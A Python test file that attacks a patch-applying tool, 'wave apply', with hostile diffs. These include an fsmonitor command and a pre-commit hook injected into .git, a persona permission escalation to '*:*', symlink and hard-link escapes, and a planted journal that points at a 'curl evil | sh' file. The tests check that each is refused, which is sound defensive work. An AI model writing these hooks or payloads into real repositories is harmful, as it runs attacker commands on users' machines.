"""`wave apply` tried as an attacker and as a careless user would: writes into version control
and Wave's own configuration, state directories linked out of the project, hard links, patches
applied twice, FIFOs, devices, undecodable and unreadable files. Every case goes through the
real command line, and the test looks at what ended up on disk."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.edits import adversarial

NOBODY = 65534


def wave(
    root: Path, *arguments: str, patch: str | bytes = "", as_nobody: bool = False
) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "wave_lsp", *arguments]
    if as_nobody:  # root reads and writes anything: drop to nobody to meet a permission
        command = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *command]
    data = patch.encode() if isinstance(patch, str) else patch
    result = subprocess.run(
        command, input=data, capture_output=True, timeout=60, check=False, cwd=root,
        env={**os.environ, "HOME": str(root), "XDG_STATE_HOME": str(root / ".state")},
    )  # fmt: skip
    return subprocess.CompletedProcess(
        result.args, result.returncode, result.stdout.decode(), result.stderr.decode()
    )


def apply(root: Path, patch: str | bytes, *arguments: str) -> subprocess.CompletedProcess[str]:
    return wave(root, "apply", "--root", str(root), *arguments, patch=patch)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("import os\n\n\ndef main():\n    return 1\n")
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n\tbare = false\n")
    return tmp_path


GIT_CONFIG = """--- a/.git/config
+++ b/.git/config
@@ -1,2 +1,3 @@
 [core]
 \tbare = false
+\tfsmonitor = "touch /tmp/pwned"
"""
HOOK = """--- /dev/null
+++ b/.git/hooks/pre-commit
@@ -0,0 +1,2 @@
+#!/bin/sh
+touch /tmp/pwned
"""


def test_a_diff_into_git_is_refused_naming_the_rule(root: Path) -> None:
    for patch in (GIT_CONFIG, HOOK, GIT_CONFIG.replace(".git/", ".GIT/")):
        result = apply(root, patch)
        assert result.returncode == 1, result.stderr
        assert "protected-paths" in result.stderr and "version-control" in result.stderr
        assert "internal error" not in result.stderr
    assert "fsmonitor" not in (root / ".git" / "config").read_text()
    assert not (root / ".git" / "hooks" / "pre-commit").exists()


def test_a_symlink_into_git_is_git(root: Path) -> None:
    (root / "innocent").symlink_to(".git")
    result = apply(root, GIT_CONFIG.replace(".git/config", "innocent/config"))
    assert result.returncode == 1 and "protected-paths" in result.stderr
    assert "fsmonitor" not in (root / ".git" / "config").read_text()


def _persona(root: Path, permissions: list[str]) -> None:
    folder = root / ".wave" / "personas"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "maintainer.yaml").write_text(
        "persona:\n  name: maintainer\n  description: may change version control\n"
        f"  security_context:\n    permissions: [{', '.join(permissions)}]\n"
    )


def test_git_needs_the_permission_and_a_confirmation(root: Path) -> None:
    _persona(root, ["code:read", "code:write"])
    confirm = ("--persona", "maintainer", "--confirm", ".git/config")
    result = apply(root, GIT_CONFIG, *confirm)
    assert result.returncode == 1 and "vcs:write" in result.stderr  # confirmed, not permitted
    _persona(root, ["code:read", "code:write", "vcs:write"])
    result = apply(root, GIT_CONFIG, "--persona", "maintainer")
    assert result.returncode == 1 and "--confirm .git/config" in result.stderr  # not confirmed
    result = apply(root, GIT_CONFIG, *confirm)
    assert result.returncode == 0, result.stderr
    assert "fsmonitor" in (root / ".git" / "config").read_text()


def test_wave_configuration_needs_a_confirmation_by_name(root: Path) -> None:
    _persona(root, ["code:read", "code:write"])
    patch = """--- a/.wave/personas/maintainer.yaml
+++ b/.wave/personas/maintainer.yaml
@@ -4 +4 @@
-    permissions: [code:read, code:write]
+    permissions: ["*:*"]
"""
    result = apply(root, patch)
    assert result.returncode == 1
    assert "governance" in result.stderr and "--confirm .wave/personas/maintainer.yaml" in (
        result.stderr
    )
    assert "*:*" not in (root / ".wave" / "personas" / "maintainer.yaml").read_text()
    result = apply(root, patch, "--confirm", ".wave/personas/maintainer.yaml")
    assert result.returncode == 0, result.stderr
    assert "*:*" in (root / ".wave" / "personas" / "maintainer.yaml").read_text()


CHANGE = """--- a/src/app.py
+++ b/src/app.py
@@ -4,2 +4,2 @@
 def main():
-    return 1
+    return 2
"""


@pytest.mark.parametrize("link", [".wave", ".wave/backups"])
def test_state_directories_linked_out_of_the_project_are_refused(
    root: Path, tmp_path_factory: pytest.TempPathFactory, link: str
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(outside, target_is_directory=True)
    result = apply(root, CHANGE)
    assert result.returncode == 1, result.stderr
    assert "outside the workspace" in result.stderr and "nothing was written" in result.stderr
    assert list(outside.rglob("*")) == []  # no backup, no journal out there
    assert (root / "src" / "app.py").read_text().endswith("return 1\n")


def test_a_hard_link_to_an_outside_file_is_broken_not_written_through(
    root: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "shared.py"
    outside.write_text((root / "src" / "app.py").read_text())
    (root / "src" / "app.py").unlink()
    os.link(outside, root / "src" / "app.py")
    result = apply(root, CHANGE)
    assert result.returncode == 0, result.stderr
    assert (root / "src" / "app.py").read_text().endswith("return 2\n")
    assert outside.read_text().endswith("return 1\n")  # the outside file is as it was
    assert (root / "src" / "app.py").stat().st_nlink == 1


def test_an_addition_applied_twice_is_detected(root: Path) -> None:
    patch = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,3 +1,4 @@\n import os\n+import sys\n \n \n"
    assert apply(root, patch).returncode == 0
    again = apply(root, patch)
    assert again.returncode == 1
    assert "already applied" in again.stderr
    assert (root / "src" / "app.py").read_text().count("import sys") == 1
    modified = apply(root, CHANGE)
    assert modified.returncode == 0
    assert apply(root, CHANGE).returncode == 1  # its old line is gone, its new one is there
    assert "already applied" in apply(root, CHANGE).stderr


@pytest.fixture
def fifo(root: Path) -> Iterator[Path]:
    path = root / "src" / "pipe.py"
    os.mkfifo(path)
    yield path


def test_a_fifo_is_refused_not_waited_on(root: Path, fifo: Path) -> None:
    result = apply(root, CHANGE.replace("src/app.py", "src/pipe.py"))
    assert result.returncode == 1 and "FIFO" in result.stderr
    as_patch = wave(root, "apply", "--root", str(root), str(fifo))
    assert as_patch.returncode == 2 and "FIFO" in as_patch.stderr


def test_a_device_and_a_directory_are_refused(root: Path) -> None:
    (root / "src" / "zero.py").symlink_to("/dev/zero")  # a symlink out is refused anyway
    result = apply(root, CHANGE.replace("src/app.py", "src/zero.py"))
    assert result.returncode == 1 and "outside the workspace" in result.stderr
    result = apply(root, CHANGE.replace("src/app.py", "src"))
    assert result.returncode == 1 and "a directory" in result.stderr
    assert "internal error" not in result.stderr


def test_a_char_device_inside_the_workspace_is_refused(root: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    os.mknod(root / "src" / "dev.py", 0o666 | 0o020000, os.makedev(1, 5))  # like /dev/zero
    result = apply(root, CHANGE.replace("src/app.py", "src/dev.py"))
    assert result.returncode == 1 and "character device" in result.stderr


def test_a_sparse_huge_file_is_refused_unread(root: Path) -> None:
    huge = root / "src" / "huge.py"
    with huge.open("wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GB that the disk does not hold
    result = apply(root, CHANGE.replace("src/app.py", "src/huge.py"))
    assert result.returncode == 1 and "over the limit" in result.stderr


def test_bad_input_is_a_user_error_never_internal(root: Path) -> None:
    noise = bytes(range(256)) * 40
    result = apply(root, noise)
    assert result.returncode == 2 and "not UTF-8" in result.stderr
    (root / "noise.diff").write_bytes(noise)
    result = wave(root, "apply", "--root", str(root), str(root / "noise.diff"))
    assert result.returncode == 2 and "not UTF-8" in result.stderr
    result = apply(root, CHANGE.replace("src/app.py", "src/a\x00b.py"))
    assert result.returncode in (1, 2) and "NUL" in result.stderr
    for outcome in (result,):
        assert "internal error" not in outcome.stderr


def test_a_latin1_file_keeps_its_bytes(root: Path) -> None:
    data = "# caf\xe9 cr\xe8me\ndef main():\n    return 1\n".encode("latin-1")
    (root / "src" / "legacy.py").write_bytes(data)
    result = apply(root, CHANGE.replace("src/app.py", "src/legacy.py").replace("-4,2 +4,2", ""))
    assert result.returncode == 0, result.stderr
    assert (root / "src" / "legacy.py").read_bytes() == data.replace(b"return 1", b"return 2")


@pytest.fixture
def shared_root() -> Iterator[Path]:
    """A workspace that the user nobody can reach (pytest's own temp folders are private)."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv to meet a permission as another user")
    base = Path(tempfile.mkdtemp(prefix="wave-perm-"))
    base.chmod(0o777)
    (base / "src").mkdir()
    (base / "src" / "app.py").write_text("import os\n\n\ndef main():\n    return 1\n")
    for path in [base, *base.rglob("*")]:
        os.chown(path, NOBODY, NOBODY)
    yield base
    shutil.rmtree(base)


def test_an_unreadable_file_is_a_user_error(shared_root: Path) -> None:
    (shared_root / "src" / "app.py").chmod(0)
    result = wave(shared_root, "apply", "--root", str(shared_root), patch=CHANGE, as_nobody=True)
    (shared_root / "src" / "app.py").chmod(0o644)
    assert result.returncode == 1, result.stderr
    assert "permission denied" in result.stderr and "internal error" not in result.stderr


def test_a_read_only_directory_is_a_user_error(shared_root: Path) -> None:
    (shared_root / "src").chmod(0o555)
    try:
        result = wave(
            shared_root, "apply", "--root", str(shared_root), patch=CHANGE, as_nobody=True
        )
    finally:
        (shared_root / "src").chmod(0o755)
    assert result.returncode == 1, result.stderr
    assert "cannot write" in result.stderr and "nothing was changed" in result.stderr
    assert "internal error" not in result.stderr
    assert (shared_root / "src" / "app.py").read_text().endswith("return 1\n")
    assert not [p for p in (shared_root / "src").iterdir() if p.name.endswith(".tmp")]


def _big(lines: int) -> str:
    return "".join(f"value_{n} = compute({n}, {n * 7 % 13})\n" for n in range(lines))


def test_a_400_line_hunk_that_matches_nowhere_is_refused_quickly(root: Path) -> None:
    (root / "src" / "big.py").write_text(_big(20_000))
    hunk = "".join(f"-other_{n} = something({n})\n" for n in range(400))
    patch = f"--- a/src/big.py\n+++ b/src/big.py\n@@ -1,400 +1 @@\n{hunk}+gone = True\n"
    result = apply(root, patch)  # a hang guard only: the figure is in bench/hardening_bench.py
    assert result.returncode == 1 and "were not found" in result.stderr


def test_the_fuzzy_search_stops_when_cancelled() -> None:
    from wave_lsp.edits.apply import Cancelled, apply_hunks
    from wave_lsp.edits.patch import parse_patch

    text = _big(10_000)
    lines = text.splitlines()[5000:5040]
    drifted = [line.replace("compute", "computed") for line in lines]
    body = "".join(f" {line}\n" for line in drifted[:20]) + f"-{lines[20]}\n+changed = 1\n"
    body += "".join(f" {line}\n" for line in drifted[21:])
    [patch] = parse_patch(f"@@ @@\n{body}", "big.py")
    assert apply_hunks(text, patch.hunks).text is not None  # found, fuzzily
    polls = []

    def cancel() -> bool:
        polls.append(1)
        return True

    with pytest.raises(Cancelled):
        apply_hunks(text, patch.hunks, cancel=cancel)
    assert polls == [1]


def test_a_live_write_is_left_alone_by_another_start(root: Path) -> None:
    """Recovery rolls back only writes whose process is gone (it holds a lock while alive)."""
    from wave_lsp.edits.journal import Entry, Journal, recover

    target = root / "src" / "app.py"
    journal = Journal(root / ".wave" / "journal", [Entry(target, None)], root / ".wave" / "b")
    journal.begin()
    journal.writing()
    assert recover(root) == []  # alive: not touched
    assert target.exists()
    journal.done()
    assert not list((root / ".wave" / "journal").iterdir())


def test_the_audit_log_is_not_written_through_a_linked_wave_directory(
    root: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    from wave_lsp.personas.guard import AuditLog

    outside = tmp_path_factory.mktemp("outside")
    (root / ".wave").symlink_to(outside, target_is_directory=True)
    AuditLog(root / ".wave" / "audit.log").record({"action": "x"})
    assert list(outside.iterdir()) == []


def test_a_proposal_written_to_disk_is_all_or_none(root: Path) -> None:
    """The server's disk writes (files the editor does not have open) are journaled too: a
    failure midway puts every file back, and nothing of the journal is left in the project."""
    from wave_lsp.edits.proposals import CreateFile, DeleteFile, write_operations

    (root / "src" / "other.py").write_text("keep me\n")
    (root / "src" / "blocked").mkdir()
    operations = [
        DeleteFile("src/other.py"),
        CreateFile("src/new.py", "new\n"),
        CreateFile("src/blocked", "a directory is in the way\n"),
    ]
    with pytest.raises(OSError):
        write_operations(root, operations)  # type: ignore[arg-type]
    assert (root / "src" / "other.py").read_text() == "keep me\n"
    assert not (root / "src" / "new.py").exists()
    assert not (root / ".wave").exists()  # no journal left, not even its folders
    write_operations(root, operations[:2])  # type: ignore[arg-type]
    assert (root / "src" / "new.py").read_text() == "new\n"
    assert not (root / "src" / "other.py").exists()


def test_a_planted_journal_is_never_carried_out(
    root: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A repository could ship a journal that 'restores' a file of its choosing (~/.bashrc,
    .git/config): journals are signed with this user's key, and name only files inside."""
    import json

    victim = tmp_path_factory.mktemp("home") / ".bashrc"
    victim.write_text("mine\n")
    journal = root / ".wave" / "journal"
    journal.mkdir(parents=True)
    (root / ".wave" / "evil").write_text("curl evil | sh\n")
    for target in (victim, root / ".git" / "config"):
        (journal / f"write-20260101T000000-{target.name}.json").write_text(json.dumps({
            "phase": "write", "started": "then", "backups": str(root / ".wave"),
            "files": [{"path": str(target), "backup": str(root / ".wave" / "evil")}],
        }))  # fmt: skip
    result = wave(root, "config", "check", "--root", str(root))
    assert result.stderr.count("not carried out: it is not signed") == 2
    assert victim.read_text() == "mine\n"
    assert "curl" not in (root / ".git" / "config").read_text()


def test_too_many_candidate_places_is_a_clear_refusal() -> None:
    from wave_lsp.edits.apply import MAX_CANDIDATES, apply_hunks
    from wave_lsp.edits.patch import parse_patch

    text = "".join(f"start {n}\nend()\n" for n in range(MAX_CANDIDATES * 2))
    [patch] = parse_patch("@@ @@\n begin 7\n-end()\n+finish()\n", "f.py")
    [error] = apply_hunks(text, patch.hunks).errors()
    assert "too many to compare" in error and "Copy its context lines" in error


@pytest.mark.parametrize("name", list(adversarial.cases()))
def test_adversarial_answers_are_answered_in_bounded_time(name: str) -> None:
    """Each either applies or is refused with a reason, well within a generous bound (the
    figures against the 2 s target: bench/hardening_bench.py)."""
    text, answer = adversarial.cases()[name]
    took, result = adversarial.plan(text, answer)
    assert took < 15 * adversarial.TARGET_SECONDS, f"{name}: {took:.2f} s"
    if isinstance(result, str):
        assert "no edit found" not in result
    else:
        assert result.ok or all(e.strip() for e in result.errors())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(["x = 1", "pass", "", "}"]),
    st.integers(1, 400),
    st.lists(st.sampled_from(["x = 1", "pass", "", "}", "# ...", "// ...", "x = 2"]),
             min_size=1, max_size=300),
    st.sampled_from(["diff", "search-replace", "apply-patch"]),
)  # fmt: skip
def test_fuzzed_repetitive_hunks_are_bounded(
    line: str, repeat: int, hunk: list[str], form: str
) -> None:
    text = (line + "\n") * (repeat * 50)
    if form == "diff":
        answer = "--- a/big.py\n+++ b/big.py\n@@ @@\n" + "".join(f" {h}\n" for h in hunk)
        answer += f"-{line}\n+changed\n"
    elif form == "search-replace":
        answer = "\n".join(["big.py", "```", "<<<<<<< SEARCH", *hunk, line, "=======",
                            *hunk, "changed", ">>>>>>> REPLACE", "```", ""])  # fmt: skip
    else:
        answer = ("*** Begin Patch\n*** Update File: big.py\n@@\n"
                  + "".join(f" {h}\n" for h in hunk) + f"-{line}\n+changed\n*** End Patch\n")  # fmt: skip
    took, _ = adversarial.plan(text, answer)
    assert took < 15 * adversarial.TARGET_SECONDS
